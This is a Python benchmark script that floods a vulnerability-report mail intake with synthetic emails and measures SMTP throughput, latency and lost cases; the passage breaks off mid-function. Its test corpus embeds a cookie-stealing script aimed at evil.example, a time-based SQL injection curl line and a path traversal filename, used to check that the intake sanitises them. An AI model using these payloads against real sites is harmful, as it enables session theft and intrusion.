"""Mail intake: 2,000 realistic reports over SMTP, each into a case and a receipt back out.

A fresh installation per round (temp data dir, generated secret, migrated database, a team
OpenPGP key in MAMORI_GNUPG_HOME), ``mamori intake smtp`` and ``mamori worker`` started as
subprocesses, and a receipt sink (aiosmtpd in this process) as MAMORI_OUTGOING_SMTP_URL.
SENDERS SMTP clients (threads, one reused connection each) send the corpus as fast as the
listener takes it; then we wait until every receipt is in, or every message is processed and
no outgoing mail is left to send, or MAMORI_BENCH_INTAKE_TIMEOUT (600 s) passes.

Reported: the SMTP acceptance rate (messages / time until the last 250), the end-to-end rate
(messages / time until the last one became a case), latency from sending to the case and to
its receipt (p50, p90, p99, max; overall and per kind), and ``lost``: messages answered 250
that did not become a case, plus receipts missing. The script exits 1 if anything was lost.
Also shown: the worker's task queue when the round ends (what ran, how long each took, what is
still waiting), why messages became "unreadable" cases, and errors in the processes' logs.

The corpus is generated with a fixed seed (the PGP ciphertexts aside): plain English;
multipart/mixed with 1-3 attachments (a log, a small PNG, a zip); Japanese in ISO-2022-JP,
Shift_JIS, EUC-JP and UTF-8 (encoded-word subjects and bodies); PGP/MIME encrypted to the team
key (encrypted before the clock starts); malformed mail (truncated MIME, a multipart without
boundary, an unknown charset label, HTML only with a script). Sizes are log-uniform from 1 KB
to 200 KB, every message has its own Message-ID and reporter, so every one opens a case.

Baseline measured in the same run: the same messages, sent by the same clients, to a bare
aiosmtpd server (a subprocess, as the listener is) that only appends the bytes to a list: the
SMTP floor on this machine. Everything above it is Mamori storing and processing.

Rounds, each in its own process: SQLite, and PostgreSQL in a fresh database (dropped after)
when MAMORI_BENCH_DATABASE_URL is set; each with one worker, as ``mamori run`` starts
(MAMORI_BENCH_INTAKE_WORKERS=1,2 adds rounds with two). MAMORI_BENCH_INTAKE_MESSAGES (default
2000) shortens a run for a quick look. A round that lost messages keeps its data directory
(databases, raw mail, the processes' logs) and says where.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import logging
import math
import os
import random
import re
import secrets
import shutil
import signal
import smtplib
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from email.header import Header
from email.parser import BytesHeaderParser
from email.utils import formatdate
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit, urlunsplit

ROOT = Path(__file__).resolve().parent.parent
SEED = 3156
SECURITY = "security@example.org"
SENDERS = 4
MESSAGES = int(os.environ.get("MAMORI_BENCH_INTAKE_MESSAGES") or 2000)
TIMEOUT = float(os.environ.get("MAMORI_BENCH_INTAKE_TIMEOUT") or 600)
WORKERS = tuple(int(n) for n in (os.environ.get("MAMORI_BENCH_INTAKE_WORKERS") or "1").split(","))
KINDS = {  # share of the corpus, in percent
    "plain": 30,
    "attachments": 25,
    "ja-iso-2022-jp": 6,
    "ja-shift_jis": 6,
    "ja-euc-jp": 6,
    "ja-utf-8": 6,
    "pgp-mime": 5,
    "bad-truncated": 4,
    "bad-no-boundary": 4,
    "bad-charset": 4,
    "html-script": 4,
}
JA_CODECS = {"ja-iso-2022-jp": "ISO-2022-JP", "ja-shift_jis": "Shift_JIS", "ja-euc-jp": "EUC-JP"}
JA_CODECS["ja-utf-8"] = "UTF-8"
UNKNOWN_CHARSET = "x-mamori-bench-unknown"

EN = (
    "The login form of the management console does not escape the next parameter.",
    "A crafted link runs script in the session of an administrator who opens it.",
    "Steps to reproduce: sign in as an operator, open the link below, watch the alert box.",
    "The firmware upload handler joins the archive member names to the target directory.",
    "A name such as ../../etc/cron.d/x writes outside the upload directory.",
    "The search endpoint builds its SQL from the sort parameter without quoting it.",
    "Affected versions: 2.3.1 and earlier; 2.4.0-rc1 is affected too.",
    "curl -k 'https://device.example/api/v2/search?sort=name%20DESC;SELECT%20pg_sleep(5)'",
    "The response takes five seconds longer, which shows the injected statement ran.",
    "We have not published this and will wait for your fix before we do.",
    "Please credit Example Security Research in the advisory if you publish one.",
    "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:H/A:N is our estimate of the severity.",
)
JA = (
    "管理画面のログインフォームで、パラメータがエスケープされていません。",
    "細工したリンクを管理者が開くと、任意のスクリプトが実行されます。",
    "再現手順は以下のとおりです。運用者としてログインし、リンクを開いてください。",
    "ファームウェア更新機能が、アーカイブ内のファイル名をそのまま使っています。",
    "影響を受けるバージョンは二・三・一以前と思われます。",
    "検索APIの並び替えパラメータからSQL文が組み立てられています。",
    "修正版が公開されるまで、この情報は公開しません。",
    "ご確認のほど、よろしくお願いいたします。",
)
EN_SUBJECTS = (
    "Stored XSS in the management console",
    "SQL injection in /api/v2/search",
    "Path traversal in the firmware upload",
    "Authentication bypass in the admin console",
    "Heap overflow in the packet parser",
    "Open redirect after login",
)
JA_SUBJECTS = (
    "【脆弱性報告】管理画面のクロスサイトスクリプティング",
    "検索APIにおけるSQLインジェクションの報告",
    "ファームウェア更新機能のパストラバーサルについて",
    "管理コンソールの認証回避",
)
JA_NAMES = ("山田 太郎", "佐藤 花子", "鈴木 一郎", "高橋 美咲")
EN_NAMES = ("Alice Example", "Bob Tester", "Carol Researcher", "Dan Hunter")
DOMAINS = ("example.com", "example.net", "mail.example.jp", "research.example.org")


# --- The corpus -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Mail:
    kind: str
    sender: str
    message_id: str  # without angle brackets
    subject: str  # as the intake should decode it
    snippet: str  # a line the case's description should contain
    files: int  # attachments the case should have
    raw: bytes


@dataclass(frozen=True)
class Draft:
    """What every generator gets: the message's number, reporter and target size."""

    number: int
    rng: random.Random
    size: int

    @property
    def sender(self) -> str:
        return f"reporter{self.number:05d}@{DOMAINS[self.number % len(DOMAINS)]}"

    @property
    def message_id(self) -> str:
        return f"bench.{SEED}.{self.number:05d}@{DOMAINS[self.number % len(DOMAINS)]}"

    def subject(self, choices: Sequence[str]) -> str:
        return f"{self.rng.choice(choices)} #{self.number}"

    def head(self, subject: str, content_type: str, name: str = "", extra: str = "") -> bytes:
        name = name or f'"{self.rng.choice(EN_NAMES)}"'
        fields = (
            f"From: {name} <{self.sender}>\r\nTo: Security <{SECURITY}>\r\n"
            f"Subject: {subject}\r\nDate: {formatdate(1717200000 + 37 * self.number)}\r\n"
            f"Message-ID: <{self.message_id}>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: {content_type}\r\n{extra}\r\n"
        )
        return fields.encode("ascii")

    def mail(self, kind: str, subject: str, snippet: str, files: int, raw: bytes) -> Mail:
        return Mail(kind, self.sender, self.message_id, subject, snippet, files, raw)


def _words(text: str, charset: str) -> str:
    """RFC 2047 encoded words, 8 characters each (each a whole ISO-2022-JP sequence)."""
    chunks = (text[i : i + 8].encode(charset) for i in range(0, len(text), 8))
    return "\r\n ".join(f"=?{charset}?B?{base64.b64encode(c).decode()}?=" for c in chunks)


def _lines(rng: random.Random, sentences: Sequence[str], size: int, codec: str) -> list[str]:
    """Lines of sentences until their encoded size reaches ``size`` (at least one line)."""
    joiner = "" if sentences is JA else " "
    lines: list[str] = []
    total = 0
    while total < size or not lines:
        line = joiner.join(rng.choice(sentences) for _ in range(rng.randint(1, 3)))
        lines.append(line)
        total += len(line.encode(codec)) + 2
    return lines


def _crlf(lines: Sequence[str], codec: str = "utf-8") -> bytes:
    return b"".join(line.encode(codec) + b"\r\n" for line in lines)


def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def _part(content_type: str, data: bytes, filename: str = "") -> bytes:
    head = f"Content-Type: {content_type}\r\nContent-Transfer-Encoding: base64\r\n"
    if filename:
        head += f'Content-Disposition: attachment; filename="{filename}"\r\n'
    return head.encode("ascii") + b"\r\n" + _b64(data)


def _multipart(boundary: str, parts: Sequence[bytes]) -> bytes:
    body = b"This is a multi-part message in MIME format.\r\n"
    for part in parts:
        body += f"--{boundary}\r\n".encode() + part + b"\r\n"
    return body + f"--{boundary}--\r\n".encode()


def _png(rng: random.Random) -> bytes:
    side = rng.randint(12, 40)
    rows = b"".join(b"\0" + rng.randbytes(side * 3) for _ in range(side))

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))


def _zip(rng: random.Random) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("poc/exploit.py", "poc/README.txt", "poc/capture.hex"):
            info = zipfile.ZipInfo(name, date_time=(2024, 6, 1, 12, 0, 0))
            text = "\n".join(rng.randbytes(24).hex() for _ in range(rng.randint(20, 60)))
            archive.writestr(info, text.encode(), zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _attachments(draft: Draft, kind: str = "attachments") -> Mail:
    rng = draft.rng
    chosen = rng.sample(["log", "png", "zip"], rng.randint(1, 3))
    files = {"png": ("image/png", "screenshot.png", _png(rng)), "zip": ("", "", b"")}
    files["zip"] = ("application/zip", "poc.zip", _zip(rng))
    room = max(512, draft.size - sum(len(files[k][2]) for k in chosen if k != "log"))
    text = _lines(rng, EN, room // 4 if "log" in chosen else room, "ascii")
    log = "\n".join(_lines(rng, EN, room, "ascii")).encode()
    files["log"] = ("text/plain; charset=us-ascii", "server.log", log)
    parts = [_part("text/plain; charset=us-ascii", _crlf(text))]
    parts += [_part(files[k][0], files[k][2], files[k][1]) for k in chosen]
    boundary = f"=_bench_{draft.number:05d}_{rng.getrandbits(32):08x}"
    subject = draft.subject(EN_SUBJECTS)
    head = draft.head(subject, f'multipart/mixed; boundary="{boundary}"')
    return draft.mail(kind, subject, text[0], len(chosen), head + _multipart(boundary, parts))


def _plain(draft: Draft) -> Mail:
    lines = _lines(draft.rng, EN, draft.size, "ascii")
    subject = draft.subject(EN_SUBJECTS)
    head = draft.head(subject, "text/plain; charset=us-ascii", extra="")
    return draft.mail("plain", subject, lines[0], 0, head + _crlf(lines))


def _japanese(kind: str) -> Callable[[Draft], Mail]:
    charset = JA_CODECS[kind]

    def make(draft: Draft) -> Mail:
        lines = _lines(draft.rng, JA, draft.size, charset)
        subject = draft.subject(JA_SUBJECTS)
        name = _words(draft.rng.choice(JA_NAMES), charset)
        if charset == "UTF-8":
            body, encoding = _b64(_crlf(lines)), "base64"
        else:  # each line on its own: ISO-2022-JP lines end in ASCII, as mail clients send them
            body, encoding = _crlf(lines, charset), "7bit" if charset == "ISO-2022-JP" else "8bit"
        head = draft.head(
            _words(subject, charset),
            f"text/plain; charset={charset}",
            name=name,
            extra=f"Content-Transfer-Encoding: {encoding}\r\n",
        )
        return draft.mail(kind, subject, lines[0], 0, head + body)

    return make


def _truncated(draft: Draft) -> Mail:
    """An attachment cut off in the middle of its base64, with no closing boundary."""
    whole = _attachments(draft, "bad-truncated")
    head_end = whole.raw.index(b"\r\n\r\n") + 4
    cut = max(head_end + 200, int(len(whole.raw) * draft.rng.uniform(0.55, 0.85)))
    raw = whole.raw[: whole.raw.rindex(b"\r\n", 0, cut) + 2]
    return Mail(whole.kind, whole.sender, whole.message_id, whole.subject, "", 0, raw)


def _no_boundary(draft: Draft) -> Mail:
    lines = _lines(draft.rng, EN, draft.size, "ascii")
    body = (
        b"--frontier\r\nContent-Type: text/plain\r\n\r\n"
        + _crlf(lines)
        + b"--frontier\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + _b64(draft.rng.randbytes(600))
        + b"--frontier--\r\n"
    )
    subject = draft.subject(EN_SUBJECTS)
    head = draft.head(subject, "multipart/mixed")
    return draft.mail("bad-no-boundary", subject, "", 0, head + body)


def _unknown_charset(draft: Draft) -> Mail:
    lines = _lines(draft.rng, JA + EN, draft.size, "utf-8")
    subject = draft.subject(JA_SUBJECTS)
    head = draft.head(
        _words(subject, "utf-8").replace("=?utf-8?", f"=?{UNKNOWN_CHARSET}?"),
        f'text/plain; charset="{UNKNOWN_CHARSET}"',
        extra="Content-Transfer-Encoding: 8bit\r\n",
    )
    return draft.mail("bad-charset", subject, lines[0], 0, head + _crlf(lines))


def _html(draft: Draft) -> Mail:
    lines = _lines(draft.rng, EN, draft.size, "ascii")
    html = (
        ["<html><head><title>Report</title>"]
        + ["<script>new Image().src='https://evil.example/?c='+document.cookie;</script>"]
        + ["</head><body><h1>Vulnerability report</h1>"]
        + [f"<p>{line}</p>" for line in lines]
        + ["<script>alert(document.domain)</script></body></html>"]
    )
    subject = draft.subject(EN_SUBJECTS)
    head = draft.head(
        subject, "text/html; charset=utf-8", extra="Content-Transfer-Encoding: 8bit\r\n"
    )
    return draft.mail("html-script", subject, lines[0], 0, head + _crlf(html))


GENERATORS: dict[str, Callable[[Draft], Mail]] = {
    "plain": _plain,
    "attachments": _attachments,
    **{kind: _japanese(kind) for kind in JA_CODECS},
    "bad-truncated": _truncated,
    "bad-no-boundary": _no_boundary,
    "bad-charset": _unknown_charset,
    "html-script": _html,
}


def _pgp(draft: Draft, team: Any, reporter: Any) -> Mail:
    """PGP/MIME encrypted to the team key; every other one signed by the (unknown) reporter."""
    from tests import gpg_keys

    lines = _lines(draft.rng, EN, min(draft.size, 64 * 1024), "ascii")
    subject = draft.subject(EN_SUBJECTS)
    headers = {
        "From": f'"{draft.rng.choice(EN_NAMES)}" <{draft.sender}>',
        "Date": formatdate(1717200000 + 37 * draft.number),
        "Message-ID": f"<{draft.message_id}>",
        "Subject": Header(subject, "utf-8").encode(linesep="\r\n"),
    }
    raw = gpg_keys.pgp_mime_encrypted(
        _crlf(lines),
        sender=reporter,
        recipient=team,
        sign=draft.number % 2 == 0,
        subject=subject,
        headers=headers,
    )
    return draft.mail("pgp-mime", subject, lines[0], 0, raw)


def corpus(count: int, team: Any, reporter: Any) -> list[Mail]:
    """``count`` messages in a fixed order, each kind in its share (the rest are plain)."""
    rng = random.Random(SEED)
    kinds = [kind for kind, share in KINDS.items() for _ in range(count * share // 100)]
    kinds += ["plain"] * (count - len(kinds))
    rng.shuffle(kinds)
    mails = []
    for number, kind in enumerate(kinds):
        size = int(math.exp(rng.uniform(math.log(1024), math.log(200 * 1024))))
        draft = Draft(number, random.Random(f"{SEED}-{number}"), size)
        if kind == "pgp-mime":
            mails.append(_pgp(draft, team, reporter))
        else:
            mails.append(GENERATORS[kind](draft))
    return mails


# --- SMTP: the senders, the receipt sink, the bare server --------------------------------------


@dataclass(frozen=True)
class Sent:
    mail: Mail
    start: float  # time.time(), comparable with the worker's timestamps and the sink's
    end: float
    code: int  # 250 when accepted; the reply code otherwise; 0 when the connection broke


def _send_one(client: smtplib.SMTP, mail: Mail) -> int:
    try:
        client.sendmail(mail.sender, [SECURITY], mail.raw)
    except smtplib.SMTPRecipientsRefused as refused:
        return min(code for code, _text in refused.recipients.values())
    except smtplib.SMTPResponseException as error:
        return error.smtp_code
    return 250


def send_all(port: int, mails: Sequence[Mail]) -> list[Sent]:
    """Send ``mails`` through SENDERS connections in parallel, each reused until the end."""
    sent: list[Sent | None] = [None] * len(mails)
    todo = iter(range(len(mails)))
    lock = threading.Lock()

    def client() -> None:
        connection: smtplib.SMTP | None = None
        while True:
            with lock:
                number = next(todo, None)
            if number is None:
                break
            start = time.time()
            try:
                connection = connection or smtplib.SMTP("127.0.0.1", port, timeout=300)
                code = _send_one(connection, mails[number])
            except (smtplib.SMTPServerDisconnected, OSError):
                code, connection = 0, None
            sent[number] = Sent(mails[number], start, time.time(), code)
        if connection is not None:
            with contextlib.suppress(smtplib.SMTPException, OSError):
                connection.quit()

    threads = [threading.Thread(target=client, daemon=True) for _ in range(SENDERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return [s or Sent(m, 0.0, 0.0, 0) for s, m in zip(sent, mails, strict=True)]


def _bare(message_id: str) -> str:
    return message_id.strip().strip("<>").strip()


class ReceiptSink:
    """The outgoing mail server: when each receipt arrived, by the Message-ID it answers."""

    def __init__(self) -> None:
        self.arrived: dict[str, list[float]] = defaultdict(list)
        self.lock = threading.Lock()

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        at = time.time()
        head = BytesHeaderParser().parsebytes(envelope.original_content or b"")
        with self.lock:
            self.arrived[_bare(str(head.get("In-Reply-To", "")))].append(at)
        return "250 OK"

    def wait_for(self, wanted: set[str], settled: Callable[[], bool], label: str) -> None:
        """Until every receipt is here, or nothing more can come, or TIMEOUT passes."""
        deadline = time.monotonic() + TIMEOUT
        shown = checked = time.monotonic()
        while time.monotonic() < deadline:
            with self.lock:
                missing = len(wanted - self.arrived.keys())
            if not missing:
                return
            if time.monotonic() - checked > 2:
                if settled():
                    return
                checked = time.monotonic()
            if time.monotonic() - shown > 20:
                shown = time.monotonic()
                print(f"[{label}] {len(wanted) - missing}/{len(wanted)} receipts", file=sys.stderr)
            time.sleep(0.2)


def settled(accepted: int) -> Callable[[], bool]:
    """Whether every accepted message is processed and no outgoing mail is still to be sent."""
    from mamori.intake.models import InboundMessage, InboundStatus, OutboundMail, OutboundStatus

    def check() -> bool:
        done = InboundMessage.objects.exclude(status=InboundStatus.STORED).count()
        waiting = [OutboundStatus.QUEUED, OutboundStatus.FAILED]
        return done >= accepted and not OutboundMail.objects.filter(status__in=waiting).exists()

    return check


BARE_SERVER = """
import sys, time
from aiosmtpd.controller import Controller

class Keep:
    kept = []
    async def handle_DATA(self, server, session, envelope):
        self.kept.append(envelope.original_content)
        return "250 OK"

Controller(Keep(), hostname="127.0.0.1", port=int(sys.argv[1])).start()
while True:
    time.sleep(3600)
"""


# --- Processes ---------------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@contextlib.contextmanager
def started(command: Sequence[str], env: dict[str, str], log: Path) -> Iterator[Any]:
    """A subprocess writing to ``log``; terminated (then killed) when the block ends."""
    with log.open("ab") as out:
        child = subprocess.Popen(command, env=env, stdout=out, stderr=subprocess.STDOUT)
    try:
        yield child
    finally:
        stop(child)


def stop(child: subprocess.Popen[bytes]) -> None:
    if child.poll() is None:
        child.terminate()
        try:
            child.wait(timeout=20)
        except subprocess.TimeoutExpired:
            child.kill()
            child.wait()


def _tail(log: Path) -> str:
    return log.read_text(errors="replace")[-2000:] if log.exists() else ""


def wait_until(ready: Callable[[], bool], child: Any, log: Path, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while not ready():
        if child.poll() is not None:
            raise RuntimeError(f"{child.args} exited with {child.returncode}:\n{_tail(log)}")
        if time.monotonic() > deadline:
            raise RuntimeError(f"{child.args} not ready after {timeout} s:\n{_tail(log)}")
        time.sleep(0.1)


def answers(port: int) -> Callable[[], bool]:
    def probe() -> bool:
        try:
            with smtplib.SMTP("127.0.0.1", port, timeout=5) as client:
                return client.noop()[0] == 250
        except OSError:
            return False

    return probe


def logged(log: Path, text: str) -> Callable[[], bool]:
    return lambda: log.exists() and text in log.read_text(errors="replace")


def mamori(*args: str) -> list[str]:
    return [sys.executable, "-m", "mamori.cli", *args]


# --- One round: a fresh installation, the baseline, Mamori -------------------------------------


@contextlib.contextmanager
def fresh_database(url: str) -> Iterator[str]:
    """SQLite in the data dir (""), or a new PostgreSQL database next to ``url``, dropped after."""
    if not url:
        yield ""
        return
    import psycopg
    from psycopg import sql

    name = f"mamori_bench_{secrets.token_hex(4)}"
    with psycopg.connect(url, autocommit=True) as admin:
        admin.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
    try:
        yield urlunsplit(urlsplit(url)._replace(path=f"/{name}"))
    finally:
        with psycopg.connect(url, autocommit=True) as admin:
            drop = sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)")
            admin.execute(drop.format(sql.Identifier(name)))


@contextlib.contextmanager
def installation(database_url: str, team_home: Path, sink_port: int) -> Iterator[Path]:
    """A data dir with a generated secret and a migrated database; os.environ points at it."""
    from mamori import config

    data = Path(tempfile.mkdtemp(prefix="mamori-bench-intake-"))
    keep = False
    try:
        config.ensure_secret_file(data)
        with fresh_database(database_url) as url:
            for name in [n for n in os.environ if n.startswith("MAMORI_")]:
                if not name.startswith("MAMORI_BENCH_"):
                    del os.environ[name]
            os.environ.update(
                MAMORI_DATA_DIR=str(data),
                MAMORI_DATABASE_URL=url,
                MAMORI_SECURITY_ADDRESSES=SECURITY,
                MAMORI_GNUPG_HOME=str(team_home),
                MAMORI_OUTGOING_SMTP_URL=f"smtp://127.0.0.1:{sink_port}",
                DJANGO_SETTINGS_MODULE="mamori.settings",
                PYTHONUNBUFFERED="1",
            )
            with (data / "migrate.log").open("wb") as out:
                subprocess.run(mamori("migrate"), stdout=out, stderr=subprocess.STDOUT, check=True)
            try:
                yield data
            finally:
                from django.db import connections

                connections.close_all()  # before the database is dropped
    except BaseException:
        keep = True
        raise
    finally:
        if keep or (data / "KEEP").exists():
            print(f"kept {data} for a look", file=sys.stderr)
        else:
            shutil.rmtree(data, ignore_errors=True)


def baseline(mails: Sequence[Mail], data: Path) -> list[Sent]:
    port = free_port()
    log = data / "bare-smtp.log"
    with started([sys.executable, "-c", BARE_SERVER, str(port)], dict(os.environ), log) as bare:
        wait_until(answers(port), bare, log)
        return send_all(port, mails)


def mamori_round(mails: Sequence[Mail], data: Path, workers: int, sink: ReceiptSink) -> list[Sent]:
    """Start the worker(s) and the listener, send everything, wait for the receipts, stop."""
    label = os.environ["_MAMORI_BENCH_LABEL"]
    port = free_port()
    env = dict(os.environ)
    with contextlib.ExitStack() as stack:
        for n in range(workers):
            log = data / f"worker-{n}.log"
            child = stack.enter_context(started(mamori("worker"), env, log))
            wait_until(logged(log, "Starting worker"), child, log)
        log = data / "listener.log"
        listener = stack.enter_context(
            started(mamori("intake", "smtp", "--port", str(port)), env, log)
        )
        wait_until(answers(port), listener, log)
        sent = send_all(port, mails)
        accepted = {s.mail.message_id for s in sent if s.code == 250}
        print(f"[{label}] sent; waiting for {len(accepted)} receipts", file=sys.stderr)
        sink.wait_for(accepted, settled(len(accepted)), label)
    return sent


# --- What became of each message -----------------------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    sent: Sent
    case_at: float | None  # when the worker had made its case (processed_at)
    receipt_at: float | None  # when the first receipt for it arrived at the sink
    receipts: int
    checked: bool  # the case looks as it should (subject, text, files, decryption, ...)
    error: str  # why processing failed, when it became an "unreadable" case

    @property
    def accepted(self) -> bool:
        return self.sent.code == 250


def _looks_right(mail: Mail, row: dict[str, Any], case: dict[str, Any]) -> bool:
    text = case["description"]
    specific = {
        # A text longer than a case holds (100,000 characters) comes as message.txt too.
        "attachments": case["files"] == mail.files + text.endswith("attached as message.txt.]"),
        "pgp-mime": row["encryption"] == "decrypted",
        "html-script": "<script" not in text and "document.cookie" not in text,
    }
    if mail.kind.startswith("ja-"):
        specific[mail.kind] = case["language"] == "ja"
    if mail.kind.startswith("bad-"):
        specific[mail.kind] = bool(row["problems"])
    return (
        row["subject"] == mail.subject
        and mail.snippet in text
        and specific.get(mail.kind, True)
        and not row["error"]
    )


def outcomes(sent: Sequence[Sent], sink: ReceiptSink) -> list[Outcome]:
    from django.db.models import Count

    from mamori.cases.models import Case
    from mamori.intake.models import InboundMessage

    fields = ("message_id", "status", "case_id", "processed_at", "subject", "encryption")
    values = InboundMessage.objects.values(*fields, "problems", "error")
    rows = {_bare(row["message_id"]): row for row in values}
    with_files = Case.objects.annotate(files=Count("attachments"))
    cases = {c["pk"]: c for c in with_files.values("pk", "description", "language", "files")}
    found = []
    for item in sent:
        row = rows.get(item.mail.message_id) or {}
        case = cases.get(row.get("case_id"))
        arrivals = sink.arrived.get(item.mail.message_id, [])
        found.append(
            Outcome(
                sent=item,
                case_at=row["processed_at"].timestamp() if case and row["processed_at"] else None,
                receipt_at=min(arrivals) if arrivals else None,
                receipts=len(arrivals),
                checked=bool(case) and _looks_right(item.mail, row, case),  # type: ignore[arg-type]
                error=str(row.get("error") or ""),
            )
        )
    return found


def database_notes(sink: ReceiptSink) -> list[str]:
    from mamori.cases.models import Case
    from mamori.intake.models import InboundMessage, OutboundMail

    ours = {_bare(m) for m in InboundMessage.objects.values_list("message_id", flat=True)}
    outbound = Counter(OutboundMail.objects.values_list("status", flat=True))
    return [
        f"cases in the database: {Case.objects.count()}; outgoing mail by status: "
        f"{dict(outbound)}; receipts for unknown messages: "
        f"{sum(len(at) for key, at in sink.arrived.items() if key not in ours)}"
    ]


def task_rows() -> list[str]:
    """The worker's queue when the round ended: what ran, how long, what is still waiting."""
    from django_tasks_db.models import DBTaskResult

    runs: dict[str, list[float]] = defaultdict(list)
    waiting: Counter[str] = Counter()
    results: dict[str, Counter[str]] = defaultdict(Counter)
    fields = ("task_path", "status", "started_at", "finished_at", "return_value")
    for path, status, started, finished, value in DBTaskResult.objects.values_list(*fields):
        name = path.rsplit(".", 1)[-1]
        if finished and started:
            runs[name].append((finished - started).total_seconds())
            results[name][str(value if status == "SUCCESSFUL" else status)] += 1
        else:
            waiting[name] += 1
    rows = []
    for name in sorted(runs.keys() | waiting.keys()):
        took = runs[name]
        mean = f"{1000 * sum(took) / len(took):.0f}" if took else "-"
        longest = f"{1000 * max(took):.0f}" if took else "-"
        outcome = ", ".join(f"{k}: {n}" for k, n in results[name].most_common(3))
        rows.append(
            f"| {name} | {len(took)} | {waiting[name]} | {mean} | {longest} "
            f"| {sum(took):.0f} | {outcome} |"
        )
    return rows


# --- Numbers and tables --------------------------------------------------------------------------


def pct(values: Sequence[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, math.ceil(q * len(ordered)) - 1))]


def _spread(values: Sequence[float], scale: float = 1.0, digits: int = 1) -> list[str]:
    if not values:
        return ["-"] * 4
    return [f"{pct(values, q) * scale:.{digits}f}" for q in (0.5, 0.9, 0.99, 1.0)]


def smtp_row(label: str, sent: Sequence[Sent]) -> tuple[str, float]:
    ok = [s for s in sent if s.code == 250]
    took = max(s.end for s in ok) - min(s.start for s in sent) if ok else math.inf
    p50, _p90, p99, _max = _spread([s.end - s.start for s in ok], 1000, 1)
    rate = len(ok) / took
    return f"| {label} | {len(ok)}/{len(sent)} | {rate:.0f} | {p50} / {p99} |", rate


def log_notes(data: Path) -> list[str]:
    found: Counter[str] = Counter()
    for log in sorted(data.glob("*.log")):
        for line in log.read_text(errors="replace").splitlines():
            if line.startswith("Traceback"):
                found[f"{log.name}: traceback"] += 1
            elif "database is locked" in line or "failed" in line.lower():
                found[f"{log.name}: {re.sub(r'[0-9]+', 'N', line.strip())[:100]}"] += 1
    return [f"{n} x {line}" for line, n in found.most_common(6)]


def print_kinds(found: Sequence[Outcome]) -> None:
    print(
        "| kind | sent | cases | as expected | receipts | send→case p50 (s) "
        "| send→receipt p50 (s) | p90 | p99 | max |"
    )
    print("|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|")
    for kind in [*KINDS, "all"]:
        group = [o for o in found if kind in ("all", o.sent.mail.kind)]
        to_case = [o.case_at - o.sent.start for o in group if o.case_at]
        to_receipt = [o.receipt_at - o.sent.start for o in group if o.receipt_at]
        print(
            f"| {kind} | {len(group)} | {len(to_case)} | {sum(o.checked for o in group)} "
            f"| {len(to_receipt)} | {_spread(to_case)[0]} | {' | '.join(_spread(to_receipt))} |"
        )
    print()


def report(
    label: str, bare: Sequence[Sent], found: Sequence[Outcome], sink: ReceiptSink
) -> dict[str, Any]:
    """Print the round's tables; return its summary (for the table of all rounds)."""
    t0 = min(o.sent.start for o in found)
    accepted = [o for o in found if o.accepted]
    lost_cases = [o for o in accepted if o.case_at is None]
    no_receipt = [o for o in accepted if o.receipt_at is None]
    cases_at = max((o.case_at for o in accepted if o.case_at), default=math.nan) - t0
    receipts_at = max((o.receipt_at for o in accepted if o.receipt_at), default=math.nan) - t0
    floor, floor_rate = smtp_row("bare aiosmtpd, appends to a list (baseline)", bare)
    ours, rate = smtp_row(f"Mamori ({label})", [o.sent for o in found])
    e2e = len(accepted) / cases_at if not lost_cases else math.nan
    lost = len(lost_cases) + len(no_receipt)
    sizes = [len(o.sent.mail.raw) for o in found]
    print(
        f"{label}: {len(found)} messages, {sum(sizes) / 1e6:.1f} MB (median "
        f"{pct(sizes, 0.5) / 1024:.0f} KB), {SENDERS} SMTP clients; rates in messages/s\n"
    )
    print(
        "| server | accepted | SMTP rate | 250 after p50 / p99 (ms) "
        "| all cases at (s) | end-to-end rate | all receipts at (s) | lost |"
    )
    print("|---|---:|---:|---:|---:|---:|---:|---:|")
    print(f"{floor} - | - | - | - |")
    print(f"{ours} {cases_at:.1f} | {e2e:.1f} | {receipts_at:.1f} | {lost} |\n")
    print_kinds(found)
    print(
        "| task (worker queue at the end) | ran | still queued | mean ms | max ms | total s "
        "| results |"
    )
    print("|---|---:|---:|---:|---:|---:|---|")
    print("\n".join(task_rows()) + "\n")
    errors = Counter(o.error.splitlines()[0][:120] for o in found if o.error)
    notes = [
        f"accepted without a case: {len(lost_cases)}; without a receipt: {len(no_receipt)}; "
        f"duplicate receipts: {sum(max(0, o.receipts - 1) for o in found)}",
        f"refused by the listener: {dict(Counter(o.sent.code for o in found if not o.accepted))}",
        *database_notes(sink),
        *(f"{n} became 'unreadable' cases: {error}" for error, n in errors.most_common(5)),
        *log_notes(Path(os.environ["MAMORI_DATA_DIR"])),
    ]
    print("\n".join(f"- {note}" for note in notes) + "\n")
    receipts = _spread([o.receipt_at - o.sent.start for o in found if o.receipt_at])
    return {
        "label": label,
        "floor": floor_rate,
        "rate": rate,
        "e2e": e2e,
        "cases_at": cases_at,
        "receipt_p50": receipts[0],
        "receipt_p99": receipts[2],
